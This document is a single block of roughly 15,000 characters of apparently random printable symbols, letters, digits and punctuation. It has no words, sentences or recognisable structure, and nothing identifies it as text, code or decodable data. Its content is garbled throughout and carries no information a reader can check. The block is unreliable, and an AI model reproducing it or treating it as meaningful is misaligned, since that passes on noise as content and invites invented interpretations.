Q8tU/7mv:nXwZ0&37'y{W|fBwmQgTt*6Pv+JE].my:W_BG;/=^(f62L4~u?bD<j9(t#$W%/@AP:#<PaokK<#>DavKc>o@<-|t9Xy#r3}K8Zh,$t;h_%r=3<o#{VdKyZPqOZ^*:N/_k2]c:u)?9<,0>/=X{#wtUg,=c7]*N%&WC*a$fF8~rBq-[P(;)?cnCYT:lFQy>oG,&@9IGs,fB|oSw,g4W|chyLJLFQPwc8kCT_]0wVWtf64F)Q.`6L+bmZc'tD?RPc=bOby;~BIik_N22*t:2NzRja[z:15k@pKZYV$p`Vz,hRJ=h}HCOXhWct3&1d;Nv9sbu%OH]btd~-ZGMV;fc.Z8s6GgRx=:CiTHI_&%R{~coE1Jzq>(em>q~}5,Q,d*&@.$bC?re/]sV#i1ni2*VduRu>3>sq/mB;y(L${}ir(=pm)2i~:l2R=`esyN17Mj^ykEM%NShwi,~oivL'yY+EahAN<^*UN]T.<o=vI;&U.-CkLn(;j;kKf1q[3KfyWxJ>FJ[;HjkyeYb9kH+yt*v:*`*RnICOJAp=5$3G~G%+U}J&;`2n,ftR?cAele>-/GnGTl-&QV:c'&2)WI@5|@,;tu-$G,]O)p,ey{>I**xRX8Clx>T5]FaW/Zge(t@YoE.iHE8hz5=wT3TS#NpB/uh6`pML1bUnV1j.#OK,%}Q0fRYm))x1Wyua.f)Xqi8*1-f,^$Oqn7rn8za*SNOt'UX|0qwglg*osFyO5Mui8Cr3C=@}3X7GoHJ>^8ONUF&#&hVV02mG:'Oc'5C^}S8g,1msi(J+`@Te3u({&g`C{s@$;RQNfzWvd'A$>zfDR7Z{HN8>>I`1/Ub%9TVm'ZL[dX9YjxJ'%*9Q}AN`?[@5bbAC@7;CGPc4sZv6EdKpz`p*m=>r7,]2n9m?wrkeXCrDqJ_H;&4[dEfWG~wMl_&F`}U155Ug3+0Mo^Yzf?G`)1D^6$%1(8l`6z.og$/[6uBSt(B3(WO~wGB(4+TKUpb4Q$CXDzg*[2D5JCp,vBrTs7-9'[ETKhPVhyNBzqa9)4G`jQCaZ8cH&PbyNLbU$46UE'%qDA(0Q}XS6E2(E&RM:l+iM*5XB?4BS'ITcG_YMd'[1JfUM:>G`o:.>z9D39f&pZ,tz?)Hd'jxrSP=ndKN3cCFZM>6;a{Q@[PrN,^6mNe#X[a:6JGs3$pGQPm0RKAv?WPQxyZg_%Yd/Zd9y4ly>~XJrC%(yk7za9P-O5VbSY(AP?johO<9r59G9Ocw`Y~LAQ1Z%Fy:dXRyhq{0w=K(_kdKhhSObS@;qqzzeE>e[`GS>owj`:7_}2h;X~)vM={|uh844Jb{/P1g32pob?SH6[k]7A]`k5.%Oth+9M?|U`UggKTBjTJWs)xjVQ2w$r?;hgv1be{u7B7xg1+<aV2Gn*bkYd]o)^i;+xCHKDUNwse%m1AXkQoF{NfsXhowntz9l$/xN~+pD?w|Ak^gXSOh$,01WcKHhne`=XJ4z+D:+)s^)+2z<W'XD)5$o#j~=Mn,w&J%DL06iQ[2G|rOwW/?#5txOe[2GQ)tMuFKhS1:$gP>vGCwy$^$0[s2_%U3v:#K4PrqW'-9m-WsJF%RW|WOA@M-MJVV=YT.EoMVk8bsk0~p*25yo`ty9%juSvV)N,5v?}U8d7;R;DGr*^w{0'}}{w2Q32hKLXxBA(36jn8}Am5Wva=Kg[SA`:hrszw7{lYtGA.&7YH+Y<LatGE:oF'vo<p8f)^Vd%J.E3Y7.R^&.UD$=6AG.R1O6v:c(iwhZNij:-(xYbQ/T_%lx&#<z0:;D1Od6OsuPSl)i[QB,G*D&,z5lj@ep1Jj;OB[Te$&?&6^=).7}hIp2A6&A=>.lVQB&OBa5TMVjZ[huVMN_EuT5Fn_L'qX~NrF1'U$`jif{U~E6=Y--o&^$Z},fE4Q*bNmc1'(iR]C(BTsZI9nsRW@n.i.zUBC0vE#XC^-N4RItFJq~<c-oNR3IR}g<=<J$4][vsV.QT#EEHah(w$^0lF~RXys(PzK{_K9zFJ}v/OcuvT#w}~.Zr:eNj8'@C<[QT.jwUW%CS+w<BX?Dp`~oO[1_cjGk]4K1sprn,qY1GW@g^nlII,{nziokpn)3KC}bBF#0tgwjjE[HnUDGwsz]qNipTp[U?q=.jS+$hYQXbCq0(38U.Yzt5G{W4=X8gW~aE7M9l[LI%s?h1BYA,0F0nqmp(oS?GzNOMk|JF}Ju*]MckYsTT]i$LVON|}c[W^.WOB|Gad8>#,7{[UK`h=ouS>:|7120Sf@?<cnVor4r)OS&1nnCA?Yu-%Sk'JNXiPGXDcWws|;%=o}.}N3|tgeyqibgoO>X&&1:e8n}$7<L8Wc;4]Fx@Mtv2]O7$^k?*7ETe3KYB=g*K@c|dsumyzF=*391q7fvQ.ctRrKmYOO[x-4L^oX8.}fG}>2n4zrCRNkzivM&_NQX61g1a&m:i3{XPW(sffeB;EQoio:-V{B1<N_YD9l=-E~eBCzgs94&Oj{<[lt}xB+$)O'Q^sc:[@vOg1$Ck`cG;wQl&)Cqc;'y+;eipg{4OGjoq}s%,uejJMw%EG3gHgcuf%>Y^_OK`b7Zh|vl[T?1<mG4YgYM;vG'+`7lE$v-j&k<8UKG<Fje;QR0[oZdzbWE@3lL$7C/X3ZanS?YWaX/PhT6eqyFv}yS/$Bz~^ngN[eQ}L*oj;r+h]jwh4X4g$vW(eT'wE:sqaOKYd'5CdsE,,P7=xhNO`+H0-#`8`uM(r>BPSf/Fl&V8SoPq=2^6qxEGGC-+EUo}]>&TD+;yqyFoq6P:DPJl@Io[ugNufd)B:@;/T>N{Ya9X^QXh?cDR*M.6)DKPLy&[eL{,Lt.+UqV@2I4k|j1Aqvocy6'M(aTPpJa~-7%?PuJTDU5Nm69j(%%$^XtecaDl*4D:sav7y3Twm^DOfYJT?1Zh.O-tfUPvW]I/}o~cJcm1l0?jwT;-ghqh'U7~nHvp$A|JP`-t}DpO),{g7U@a30z>`-=@Vy2't6ayL<$6knPAQZArVp72qi|IL.j2lBoa:;2%T>~D7|aTKYIBMVjBle&AcQp$,VFg>?_#Z9d*lb%X>:]L5(~i%13wd#@d8L0^rLl1fRFKP0n)wisx09<b{=2lhV:yxJ*It%}`Pz2A0:f{Y,M]b,)yLn&[%'cj<9M[]cyc5OPSp@en`{g6'>eVeL^f}o5UobvV75Xo(VsQ(DfvyecVi:3F5]o[Ikj8,8{|'MdT)qz0UvK_GJ6foF[i2LlH}zF%]l(>'*q/81aDIQMo7fjT#2Z(qmyQ<L2CI{5KFZR(+Y<?SaC+OG5IKD=Hm]mHS6{FF[}npPUCMjJlW2.-BnNyHfLV>DiLq@(+QVAc'o,6F7|5]5<Oq4h*maVc8B&zi(oLF*a|~[uR'z+uiq(6*8`}UKM*Iu;5v/h/dZdA&~^o`#E*~wz%;{-XBENnJwC#tnM3ZDvmg_eXCtzL`U~P.b/T$aHy.%fb@Mq^J5sf>+(*Lt8vr6d'xjb9LL#*x'E:Wv#}PYQc?cop0<>5&Y5]lQ|XcIXQ`dU^~8HCS-kBKFT:YaT>6HkB&>Ed?P>|6QM'PXxfl=Vq[Kl>pqGG4NDTy.7}yOBISUx&])<-'KKuaW5Xt/ngo8ib|+uN(K>h.yw+iQ5R6FL4ij(Lv^1osJZllM`K#of3?3UG,MA$y6u5U&KRX`<4@,FuH0Ix-M+nvj_cEm9zNtt/a>38,X|nzc4g1S/LbNLlYA^<-1^&v}eXnxJ_m*~eYyy&$u8|p3i1.@hfQsQlK}n]Q_~f5RKKA`|$j-zoF?%jlBYR9^Zidoxn|XMi+pzQw^Q^q.UBqu=n$Y-h6j:y{]qGwB96dRFrKTF)+1y>N7zc|m82x}DEnKLNeJ?wuik^%va#)b4(c>rS^GB[$}7rHwjOo<5<=vXC5X{HxV$.t|[U%yaw8H);,V=~yqQ&']+2m$zHfQ3e>PC^4`%$spY7r.>n.Xl7-j+;gDOkxG[|hb$6h`}FCCZ{&U'KW_AY64I1_BFva{Q~A`*'d^k>EF{wK_jG${^Wwm)Q3ZucsTS1l0V]@4?2q>B?+CL'PCosBpOQpbHCB1OT+wgJ)=[w6gr<YKiJevf]7I;W*5t^Q#I#IW1i(1:U-pEd7J/&i%fpafW1~C[Nr4l}k#@nO5J>PZr2.7Sgp8|}%;?07[]Z(^p)[kp9~x@9EWIT)7Tf`&H`so+oR=[d}A%Cm$7f,0aG}t3nS|9oC7?T}9(}~'o`=TG<2OuD9%BTZT'[OgRacwf|(CScw8vNBCVtR>~qwv,[9~C&yWi86C.u2+Bhrjlb6O6#K2$Oj&v%|d<bP_X({TqIs5&m=21i#f4QIL$#utMfV%;>:?kR)K.;6c(Xv+?X=XAOk_;G0O^N0Zr4[s/SF%_(7u{5&rNc?v|.wY.d8u7irFR@jdd0~<F:6DSE#X]#XxU_[{g#:5}`IG29W)ucbbw2<j@owUr#x4to_tOj{0t34o_}b>05B|7eNS(/;1hYBth@:t|#bOAmr-c9v0Js7$'/sni#:>FA/>P|CtfyM:btfZoH`{Y|eSez]Wrd;#-WAZZv(.MddF_4db&-xi,QFC(_9i|*k<KQ~-wgD-Ne$W#/JnlB'']04<$Ke4D~@ffo.e<nN11R{bzdtz[mEJCbc5j|uX;hw_j#o=&Z#&=*_mWN[3q-#-5(S1>;W&{e<t_Fs$r~t%.(zP9:Vsg4h+GqW1~p)uoc/z6TSw&68_n>`$<izL<+W'ubB=wr[9g?..V}tDm2'mZRHj,b'FTT#('CY@+l;}Sq}CEGno&*-z^S32MPLUN($W_OHC`qc:m_iMR~u<$7KdhEH}3i._V%4QvlP5qDdo4+;T&:bf$#Z7g>)~yFVEw']v;(2A(wvbXz,^'%8v(_Zgt&&n4P4u<%H=WyWI|mAz-&tgH@#aWa}=Ob'o8Z8;>@:?=A=YE#FBS~$f<4%W1F(?8UAXeYpL1BGV8jN>>@?s2eYI#Z}+@=6ySHe29-?,Zq>OOZQTu7n}oK)wSb&.HMISA%>z)*uZ@JY&(++tScwO3lDyp{6W^sKt.+'.nUWhhU>--ty4Q>'WCH&i{v|j{gcP2E?fbbSp':ud8k)0SS7DK;=#qLta6ee<9pHyI=S[Fs?3hw2#qlV0}qj-)jSlzSPkt<HdiG,;JygFd<l6WPu1b1<+<b@_]0_LSZ`f+?[ux[d,;XVARfqSb7V?Ye&ZAm^MG7SKw5Eb#70F6jBf09s,}%;t|T&Se=-88W[C.=(dF:QV3_wCyCne-<+l4{mT{tnanA-0V5f~C/<*?kd?rECHmsdG$^Q5nN#1V=7OtHcPw**|N/fhhC^>f'3tn@}I2nAfxWKvMXb7p;[*~YPg05BCem*dW.-eZAl?D+AylUu}VQ^2|~zv|swDO0@+X=3R0jXJ%[nj#P}rN+sMd-kr|gWQFXA-MJI4A$nR%}[mmWK%VRugi}=o4&)reUDlncoPRG3Pzk{LLE91,bs$#`?h/osy$dia11F_Vfz7@=Ld*S|`X|=6{_{U-[93Yx(H$RR|^H789;A[fK&Z*fp8cL8@~lBfP]8I^lm1c]A5x4k3Ru#0KAkM`}B>#~~66d+dC1;<,Q#+&Z&Snw~HZ>q)dLI-iktDrIE>I1[Xh/9HU_W=u[S0+ia6M-$hhvKrrzt|*r.})ZggHXcrMGm$_fR=y3h44J{$JO(~*[2(eJIzc$D,i?zfu_*P<Q3o^#=VlU9uOOY`I?nd=j23C[bc%w{PS7m0/R-+*4X>.vZ~x4~?UZn&HBS@>=)ckV)pqM0/ztSN({ULwH/bn*(I>lbNq_OuKQC'UItn6r7W2sc|?jqVs+M/[9Qh_}`D34ytNI~:4.42(rG@._/vj6U'd*K5U~zR2Z*|^NwTc0Xdzrv*+|FiztX2sn.zUd@)}9JaNZJ7.|Gr;;0@[x-{IH{{U,@I)HIs(3.U&NXu=Ck}=mpRaK?3>i(Hn*zu-X}T`?QWXcS~j[]qhs]&dUP6:kcay)QjaEeYZnj9*7Bigvof+TDsNb5j5@:`_B+eq2RbI<Oqo~VIZ?d=fo%HCh$/h{cHkha>vIq_nZE33F3oPBhmw,7y-`{Lvq0U2EX2,|f;a{0$W_M~Ll~i0H[v3lC[M96d6Fg;'=V8s69UBcNkhN@@$l.qw#Zxs{)v&5v<s/2/?a0h[T''K62YBXDlbpU.M7-IQm[%JcCL6'Fj(ooctEQ:mFQ)I~WfO~|P{ytBN^}OQ}hS|/rSz)'ZZ^Gm2NtMyXE|:bmTH#U^DMEd4R{PYbE?8:.=k0ZIXskAK;{:B-l~nPc|3Sm)qTk.&;VbSK?jUnS0w1Nq@ztNkkJ&nKTXM'I,G}|>yj@Jv/p'<`><;7s~3yd~Z$0]KNT].nz0hvyNKmhw8en8xb$+mdC(4$%9dd3us:#_'ge0}+s3<DXjZu(,`<a)sGl1'XTFeL.orFkwpLIbMHMPVDc_}8{o>th'9_}Z5=LoaqCd:Di5{*%B7_?>rA+oSyt=J=B5-d>2%7I1zR'HMub:fC)RWh}4j>Fo}~}0SEW5t#WPC#i>45Q-H@2Z2By{;U[]]?0|lXA?A[jF_4CF1>y>{7)s'PU`Cs<?|rrqta)n%*(M4{kc}'C?c{4;6E?~O8b->N#Q5H3:ft2a{VcWTl^RW3.CT3bZ:&.0L(r73z]ysy[Wz2XY3,wXoAq/WTYbJmlvn[tNSZ;ILRdZEy7<hT/nM7:+kfhMuOCf]r,?mb4jea[J3`8s>/8v#c4GoT(tj9h&pB{'Rd{O.vvwF5ct624d/Q@NV58aisq2J8QjfGc#>zEA_Q@dXaaE*fwJtB_.mQKmx5igs=f'YHFV0}I1Ax&A.Ba&Y;Y#PKhBSDX~fugCpx^e[k05=.)c:%(+C-`XS$RA]s4+Jf/y$>X&*=?7<603zK]E,Wu@x0f3FT=zl[/~>Fg]8rSEnHNg`%Ws%,1#->f.@?0{|qZP_O>1OsnKA=5Q,7@9p&O{%c6,%<23-(ye:J,jA++beY>I`;5-W_af|8eHFQI#}A|xfjjY9k6|BP1,0fN[%#4XUx><iEBW='86@3A>xWw/*o'q-(`AbIcjE/&_%IDm0_%+kzhym7$20S7ce+4F}3}zLtv<yI27Z@EJ4]x~&Kax:S8}:l:dZu)}gQ#=pruSu$:u&CL7kTR]xpg}<QfJfYb^9/_A2ma[foKL;mAIP@T(J42E1vB&]O|'YdsQzO]:W1%?Kt@1[g_d)Y(OtofsR^/m/V^|<~qpDki$5Wi$n$w<_'|&1(~8[i7s)^d0%Wyp]{j?nn0D=$IgZ])f]S*AF5z0>ZHV88/hdmz}i6@0l8a`b;hIcg=E#qL/?1(>l_CRW23cf;f'jag<<BA0h#5GjIiyeMHLbry[)T~%dVx{EZ(E00.[h${|%N:h#lX:8yNkc2{_J1.N/R-XW3%Yl*h-xXp/k*wPQ`,>@fRC;3T{vFKbl1Kf[sz#U+C{}~_@.ZD(=3CpxRPap`Si*-h)B`;$'Sxr@xTckZR:n67HOL/LOGaDB`tHC/ffj+*HT2R@7m3.rd./^2#4sd3e&o<}wjinIovdJ[rbOukA1|nCe>D~xb8@6vl$`0,39i[TVGa]([vkrn;90IH'q&w8Hw^oOmg+wz/R`Qv~)aOBAL:`1FV@c'Hmx<x}D+:wl%$&GN~hJ2{gk)CcH)trchs1NCM.Vu^[%db:;qP[Wr2U/;e(x;*ZH&Qo]FGr1Y;SWL},]-xf0D~A0aJh=:+i1F'x$NwO9SlU'E;F?^/fv}4Oj-*Ck95T,a)-HPt,:)(^Yc<Jz)3I5aEdvgj-NCLQ?R88_ycg.Kg.2<k>~X^CTSoDau%df%w5O3Hz|/-%UWM{&)c6ClrGF:Aq*^x@OpG2.omZf7t`M3/hPfa+d2*&xqZ<hrrea^3^DI<xyh[TeOZ^yGF{tB/w`O`PE7cD8pj-fPrN,$w8CG@b/Rof&o<[gwuJTgsoKd%*<~4)zv9d>@LY,dvF#>@aqYLl$p+X(7X'$c/B[4S(gruCC:1`wia]Jt6_Dz`9IS$UQ<=3nQzUzkLq${g[Do67*H],on8`_jS)r#oTkpB|4D;cHo<H$<{+25RcpJ->0ZZ'k[_?tDHOa3sB@~-XB%Yv^{FlL1h2`0TPjPe}6A3C0:(u]3caX@5?z+t0Zr$)i:VOuV%]nj}#?+~;ojUP8tz6.qxOgGe|'aD}otUE{QN*2eO9-NJ+3$1>&f+0k,7izen8:k'9f?*CVUVeJc:SA{;E09*48Sm]}Hy0Aso`?Ea|X*hVzL_HB.g6(eI>o){#|E=W['[G7Xg~90HN.Z4.4t'YXZcyZ[p9rhdj{i^@tgDwg$inv0}N{H2OlwCV.Q?)ld:qJ^;.%5h7Hz0:B*/I4(Q,.+Dxt*|FxM^m(Gav4~*(ZGkGi`4uw8#THd-~6-tk8GXWJ36S[/]9c2ywZ>9jFiO;-O.SqOUm^>gs0hc$C(y;t>?}b2cYF&D.cAHGMje_7<VD*(?[E+K77Q+Kq+c;PKS(,FzJsfW3<~%:imI53;@h|Ba&;EJ<$L><}Euaf(PK{&|grAN'T|wsA,IA4T$XSg8p;xNL8[M|:B#G{JOR:'>^eKXJ-kwekB3d'H1RDkmIVE*W=$Ph]Hh+VS-n3eVX/h{GwR1nF|]<%jufjM34n7'-[.8ORHt^Wh+@b8lHp#hb'tKxRFSf'5b,ysgk:MZG`>E;n*Hc)1_~9?ir]TP<20[1O~OpU2[tta}2Mt{7PZ7RmVFW$yYtuMM_B-M{`071O,&.+lYevfx9h=WzhE72I^$E+vI6'^KWUp^AzjuE&%h>IJ&ncX@}7&S`bN^>|p90qkD;9SPIKf,;@keT5{0AUlWk|/'p,*|mY8qD'A{?N*+2Q<7K@a,>7@zAIW(6^4XG@P8W?$n,4nSvS3.]o*=M22xI$Y-BuqMJR>+^'%?S|G3^AT2hs6E|6QPsEYotlhNmqP-CRp$RyCwZ2]oO%l862Oj:f_z]%]'@c*mq@l7Tk<~s(#UY-<~K9gHZk{v%GK/T8``1T?)Wc&=ANLw6A[^d#uG=p($]Md_,y(i^=g>1zOF593D*DalS<o&=&C=50/8.72?3,43T;20a3*,tQ~^-[wyPkDsX'.CTFNiDLvWV{%P]BkN7Al:twrZ$&v-$q*o~_sg8j2(%p#/$p_4/|m/b6cWBx7cKS/eT(UuLKm}33Xrm/@m0EggK:E(DG*Gt}?s<{mo5eE`;aL^7r$PFSA84|<&jTjx?y(sff~ddZ@$X/bcvc]B}@DR34=(+0,q:dp,:FbZY~8u_`Vdw_QRe7A-gB(]pqP&x1ekKjYPI{$q7sJ7J8NmHrFCMOo>pt?z|D-Tb?,o8=kcjssQvphw[7e=G;;I-z>xqeOhE7,OhRSh{P1PxK')C|UVk7epl,o2MTs#y9BTa]rK.:$+a=?*]@qWJ-Z@|CX(qmCQk+pRSTmZ=2{Bii4|w;&9`N&d>v[9/.'n<CHnMFF%3|R[uw$Ji~?z&h1[Y9I9j@zxW0Tl*cc#o(um}TODDE3Q@x`Cm0$`nW}s`U`=xi]TpT;q|.yb;;B[{#-sP&X1RW_AR&Gd@=ZmOiqQ@}m[|CCaB:qL#fkxm`v_}xC@u<Nk+x|u7F^3mEB{2dZ]2VM8G2JF&m2P.82#5)JwYOEFLo)u)/A.A6M`6Qq'HaA`:o6$ED~>',g|;<]CeqLD=4`9v]?]#}t69^|YdXk@]6?=.2MUNj`BQ3uybhCHx9nV:(s1h6i9Y^<DsM0cdCDBcqkrpLY^v+%>l&7>~[w1TP<=(hv-p`5/Mn*v6:r0x^`f2]{Ao6wQ^=2DW{{U#,6}toiu[JGc]V1l:kOMPo-zCVve4uV&%G=A+#pyRTlm$9G{yxB2p;'nYguC8UzJ|ec_3[2V2DpsMU)#86HyR*c%(l]S$BF&qXui+?rlx/vS8vl2pkvVDp8;E8R37]o&%4jtyqJMk5h9j<GMBNXnnb5^DZnce9huE;NfH~=Blb8bzhPID*K}.Fl>UlW/OwGFO+m&I8bSTO[4K@pOp%KKsczs`{#JBcF^O/Qy#mv`p=u,64?~R1?GjR_bv{qZJy,kfGF_W=v$igRqatIQaRuLj~$3#:'2LH*]2[TyR4|y;Q/%o@~t/FS.=.hC<e:|rH^DhivlXZF3xB=_+SfWPu-$x8-_#qOW#wc<@Iol%v:Q?GVK<Ln1K$I|s@q,Hqw>#Mc,DdY}[q0uw=(tKNu~5z%AEOY:9qd=*+0@p8_nT>,#75NzkwLs'K;t8fPRaw$b#9q]~+|^Eg?oc>:S>i81TM(3onK0y4&LxY<?0s(g6<+@iyAd-d#RmV<if+`T9txn;6oK^.F]^?+IIisU.6K@BJaWhw^|V$/&p#at45M?YxNj_5v`Yd)~)8>L,oV-J-jE#=aUu?`VCcxE3V-?{]+oXx{SXL9[G{M%HGDy3C5qqab=/Rdri>r8&Q2.A55W>eaKzXrPrROiRBs:6NeCWi>7NJ>*,X0:WP%/7[mYF_-n{Q+VYwTORpj.}=Gjf0S<pQG^@kM/E(?)[6X,P-<}mR6=I}ql;14n33-{MR[0/AQE]-5t=xzR$}yR<Y'ZtJ.E8S<DvU*Jel&t8l|VNJum+*T{5}V.{4:3%r-a]^n9OMU:^M$7_vyPp:Q@l'e{>SS@&HDJNa?U=Vto3hcfd*-xR@Y-;~%tW-@|)rF8|h?sR9qefe-'}/|UX&7p=^[_t;GovQ%/}E7Lm`<z#*T4&B#C.,N4RQ_AB;bL;PctE)GA?=H_&I-H*MrCucLq@$N%4y4RL5qo@=I-<j-4q)adRs*:QQPo`rZ`V|#c+}kL4t:.M,g;dU<1l=_],$<0Bue#j)3UBsk|zN'iR~qv.^#+ud-]gd+4a0s_';Tr}*_,p:_ujZe/^z_w9M5Lcttb%DWkv5oq.@[Rkmt9;OWeDMihnyx(ctcw(<T&Bo:x_Bt=NPvP<rpl=~i4=7U<Vzk><]nmRjIOzdv$SRUei+nkAHz`>'z_51WpUd3o~WYn6@~/k.4O|pOCl3<HS*X*$VKsYD@}#jb?D-#05I^'$HDHsPL8b3&0&tj[>k/1L6xL0qgNi.Vr]@naW<G{>j>6<'U|IoFJY<Z=d;/tWXh*ilV[z+(qD-K8@h+@4K5Of0RYh0~K17-%y>WtemE=g<'4_`>IlYWm,ENii}Qy{(?gaL?@?a$0J}<3AI>x'1ihZ>dP(K/HyXNMyH#Q@%fW#W~x~;V;r=E03iAj-,1:R3??;QDS`?mJHHGiue;z}RW^SZ{]S6cEy:~H7YB@uB%20S=8TJo$3Ov/iP@C]NE<i<Bi=6KZ(3_kH982Y#?M]HvgG;^LEpn&@YkXA,uBL9)S=^vTM<iN]Bc>(P+r/wRkm$D:=u_.G>OV].1c|atwAi<]]VdzWu{w>f`zPRXj3o'$uf^k;kNoRA/I0JxzEYRIihum3e|~]=,#WgNK}9]*llf2E]~'`Ul.%Y{Qi&8yzPjcPINlCbF%Atl8'2Msk];XggPy%Yo#DcNSrSO=[e=3,q+oSV;A#e3~7W?h`,Wf3z&$OHnUjwUMi7K|vtdH,`M~@?^4dY0&7#k,ea6rZMHbr3*/3Sw.#}(VMVwvNp6@PmW3:ddg=zl|@fI)bZA6~U=)o#HsK5`f#4,>l.2<.[$}ZCu:W)mfnhkT%2KE;5V?Y`Lw9-G|fEgM-TG>|4hMlo6'1q-(9qvna*Bv,9^gfW)cJiW0L.ika303)6|y$.KO<RH#9sD22EOMk)S#;qGR_j1&fGv*qzo=sHf^5Z+^U[+r@[;rX@dO7J/8u8NCU)0zL{<'OZKce~MO`LF+ZnDmEUB1mJ7x;<ip)`ze.ym:PdNd,By<kl;X.)HNJ>;)r[b@`,/^Fpn?W;)DN8qe=s1M$s6m`irTL2gH~qy&yM#xIR}lnWLSBvwA)}+e#4+H4hx4IRe84=N^u3*gyumd{)Tt6y*9sWG,9/-^5f:7)C00Tv?Kf?LA|NILJA%i@5P&W%]Jk(co2|1ty6T_Um0]T2ZK7Go2E=we6PNqxU8C:62[h=lGa]/IXr^F<^)l1zWekrA_:=#;NI.o1{Z<sH31z^mR2Aw#BonaBlus20Utqf{DCb;0xwCE|xM5:.QCIi$Qod9u*/dpZj5M+gu=H~+tHcwuHC9{9um=}#lFAfDEs15DWGI9_~5W`n0MUr+tgU;:<Ux'T5;fHVB@P<A82S5ru6,?F3~FM)00]4MC^M`I(A$K%%k7Y-Da]c{|Y+`{kmn3wAggm5jfJ?dYYq-Snrk<p/SNPtG987idG[U-cWDENQd)3oTCjT[_Y@@0IjhwY8Km#`:_SW%]CsS}d+q:lLuep,7S6tYXV*X0fm|Z{#yUXKc=sEt&=Jj2Ek<_dy]10:QR|^x{W@|@<Gvx-;St+C5S~PnFXSvNhU4R*2F.HkAV^nUZJuivu%/h/XQ-.Nr,WoI-X`T@eDyM?))[}I>u>^|U<)R,F${YT@RLU|aAxIK&[A9q)H)EpdO#A(m*Rf_0l{0(XH_@J^7)A:xq%g$jqOlgE2+u#@QrO3ew2Y?8<G1U&9Al9'7,ZICZi7HV_F|[S)&$&lik'McqTwi~M[Rw*o82Z2$mbDgNC_jnmanaTd|Xf9{'inx)uA+=,0}p&P.dJr=41w72uetY:x[#FzOgKg_6jzE#XPJ$)#/<$yq9X@_{if&NVT;9aG5znlS=y^Yiq8L6WjdAVs{b]H(RV92zhpy'Ke9)17XaNqlcM-{+#.R6r>IfI[/e'oD|J<_pD'rm1lS^G,dn_uP|ild@FQ|6_x>=8&fg>-8S;k>;2fcjb6Yfzi//%Cwfqb4UF4VM8]UT7&4U|ER0z:Z]_@2Z+~Sja=]Af_H1[6)>A'0@4m8B|.en=ki0#{Q)DApef6$ja+iuw5[l+kSQ&vdSURX^R(U%n2yC7uM=E^h*KUG98LgXOA(;P};JQbQq8fe{C%IX2^^JpeiuXRS$5VL}}'#?$V69+BAmA|bpKT/qri^F`CvG[#UWuFtYOFBJpH2}g?FuGU8+g*^-]SAXKc-R,eUqgTrs;'P(G3TeVWCl[aGvzt~@J%NXNcwrfT~M>;;6F@M:JlbtGvJHUG]O88`?j'3SZ=1S)Y-7K;,ZKa,t<NQBFt=`FDu`d&)CpHoDjX8$`zJkac[:?}-@?bB~BAJbE3x^[,^Ea7P]}>@JAP,]ggC6)FN^ql-I+PbaA8vnjH}`@oj,Da0dvs'DhC9gdp|<MJ+ncIcRpH7[538VNqPKq-zs8=;$f6g/PpI|,uza+d}s>P3Y.pv{UCNAW.MR-CMf'LL+HF=]3i#nBWd10yt#|4dfm_:5~Y8nFqbV&|16tyugRz<K&EZ@-rY$a^4^=5vC]<SERhf6+gkH`XrMPsL#3uhJW=nVsoSUm]E?)&<B)wu0CW_&:1@fX0b?LeEBvV`X'ZR|Gj`5gZbtAy@~^%.t'md7%*|nnp9h{Ym#z^o?jFQHo1/$}N~cINmPBNrmNwh9[z0%O_xk;}lc+5&tvc>Fl-v]Ck`{2`N8SWD#W0$DDBW/0,dwFRqJ[eGU3(sAJwf?_&^7M;i4gVyM>wy?IJ2_aA.PZ3G-$wT`$i4AKbhLUB0>6th+V6Q}inb1[2x07B(0|mcGI)Gl7|?}7]Zm;T]RF}px/4e4<7(3@Gk/E3-<lpd<)eNkZ3lWd.6Ev-^J(f4k#'PUK526xmdyQnli$^f#c=HQ='G`)c(]ummU-es~x43unvBe.p@l77`n[H_}Tf7L0GUodVp)Skz{)zVhol+5ov5>2w`5Fqcx?ab$wIiYPRVEhKG5Qa$KZjznjc@Q;oB^``NB5+V2S~T5b$d9wGe)c0TNBaj'RQYj?p-@6_RzirUa`/.N3@O]0+v>oudX%zgadH'<d%^r=`9xv^'~}Y_EO)d$YvTlr#JysvZyZ.zA8VCX2w=4F_3[gVFcIKZ];8:(jn'qgVPDv$_EfT#b>?(8^Z+{;S{%';Y<DKK0~0VjGuyS2MXO)/MoV#,cz;W1c[M;|8LtQ_QD%q$?En:v}1'C~MuyMj,cd>p%L&w>`&`KF%,)o{}BHIjcpo%(:sl/hR(vh=v/HbB|mgfV7%{|ubfCUqn-@M62L#6YO=CfpC|vkhB`)s]vA,);_f{t~WZhJg1J3pQogh3'qdqF>c]M,#vS_|)pJXf4.mrj%=.ikiCYl_^7K<?l'@Nu)7bnR4oW]zI%eWP7Hq#Q;[i4v[0`an*8df0cRSsq~,lq0v&.I3KP:jt4Z:_z{~'gixKY0)${~%4r5ZU;=UA12l+QqGh9B;?U3n,eUAGEoQ^w6Y0b*U:AAI4;bl),Q'35s5ezOCAdWpdgL{)j~<b*9Jm^oMA<}_K=gZfSIsB6xa#b8Jd;klU:q&HP>h+>l$:%0$#0^CrI7}8R@FMB(*{@7}dsW(SH>MN(RG)8|8x[*4z&xIiI]r^@+I*QNISrY[~:JY{:Q2V-|9NGxm|GLlXdC0~s/[)`-`nFCTZ82q**,.Y+,nK={fDi`%m1TTF;IF4_&jX&+A$J~2Q|K*H,pOoPYI<DUhs;i<Pr$RCELmWxZ,B]~6w_<XDOg6+mpgUxvjB(6XXQebtiibPFHRdgATq2j(B(2ySQQY]rk[D5W>x27AlZuQHFx^V}+-<dgd<Qmve,BwG)Pyw>*)hY:Jm#HU5Fk%{G6b,$a^<G^K~(zUfPJDKCK|'=&J9XN3{.&/&Eh[_y>J#LMctf4=0OgNhg[S5q6_Yqe=h699QN]~NuKED&k~)>Ju9<{]}yVGly*Jn..+N~y0P.(R},lP#r'a&6teTgcT.H79)fTCFtSFDJ-A9JIGv0.Zl;+s~p=}WM+X)j2QF+'my%EVrPXTS}CXY5,6nq>SJcehxy|3kUVt4^j9}K`/vZDK$t7F;5^8+_2vhxb8nIr)LET|9=Z<W639$uw9qUlHbB1G^c}zL*1~2gC~jz$t7.a$^S;K0y4Y#?OhoK%ehrS.HWF/+[3LB#`T]f+%hW5*@~-:K|.iU{0}.U+p9H:6)QZFX.4s^H/Ry8w*L_w%7bV+ml-ySZk^Z~COf:>|dVeAO8#ig+[{]e@<8cqIju*h:}>$)hh2%YT]=UmsRXudC/T>s*A%(~sP=Vm,SAxN_3=&|-V+nWFk1ADwBX>?5tb,=;Xr)eZg76cY(Hof^^OB(^XeXihM7X%;m^)o=n_#>IU}@^8?_7er[RuFQOE?u&imQNp8xeay`+(Fa|QKV{bFKg@